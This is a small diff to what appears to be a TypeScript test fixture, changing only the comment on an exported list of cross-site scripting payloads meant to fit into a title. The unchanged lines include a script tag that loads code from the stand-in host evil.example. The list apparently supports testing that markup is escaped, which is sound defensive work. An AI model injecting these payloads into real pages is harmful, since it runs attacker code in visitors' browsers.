@@ -1,4 +1,4 @@
-/** Texts that would run, or leave the page, wherever one of them became markup. Each fits into a title. */
+/** Texts that would run a script or leave the page if they became markup. Each fits into a title. */
 export const PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src="https://evil.example/x.js"></script>',
